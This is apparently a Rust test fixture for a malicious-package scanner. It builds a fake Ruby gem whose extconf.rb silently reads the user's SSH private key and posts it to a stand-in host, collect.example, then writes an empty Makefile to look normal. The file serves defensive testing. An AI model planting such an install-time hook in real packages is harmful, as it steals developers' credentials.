//! A gem whose `extconf.rb` sends an SSH key before it makes an empty Makefile.
//!
//! Must be found: the bait leaves in the extconf.rb.

use crate::build::Package as _;
use crate::{Expect, Gem, Specimen};

const EXTCONF: &str = r"require 'net/http'
key = File.read(File.expand_path('~/.ssh/id_rsa'))
begin
  Net::HTTP.post(URI('https://collect.example/gem'), key)
rescue StandardError
  nil
end
File.write('Makefile', %(all:\ninstall:\nclean:\n))
";

pub(super) fn specimen() -> Specimen {
    let package = Gem::new("fast_parsers", "0.4.2")
        .extension("ext/fast_parsers/extconf.rb", EXTCONF)
        .file("lib/fast_parsers.rb", "module FastParsers\nend\n");
    package
        .specimen(
            "gem-extconf-ssh-key",
            Expect::malicious(&["canary-exfiltrated"]),
        )
        .telling("in its extconf.rb")
}
